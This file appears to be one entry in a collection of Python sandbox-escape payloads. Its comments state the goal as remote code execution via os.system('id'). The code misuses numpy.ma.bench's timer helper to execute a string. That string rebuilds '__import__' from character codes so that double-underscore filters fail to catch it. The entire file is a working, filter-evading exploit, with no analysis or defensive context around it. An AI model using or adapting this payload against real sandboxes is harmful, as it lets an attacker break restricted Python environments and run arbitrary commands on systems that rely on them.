# source: numpy/ma/bench.py timer() -> timeit.Timer(stmt=s); pyjail 'find a stdlib/3rd-party helper that exec()s a string' (HackTricks bypass-python-sandboxes)
# family: string->code: shipped benchmark helper execs its argument; dunder-free literal via chr()
# goal: RCE: os.system('id')
import numpy
import numpy.ma as ma
from numpy.ma import bench
xs = nmxs = xl = nmxl = ys = nmys = yl = nmyl = zs = nmzs = zl = nmzl = 0
u = "".join(map(chr, [95, 95]))
stmt = u + "import" + u + "('o' 's').system('id')"
bench.timer(stmt, nloop=1, nrep=1)
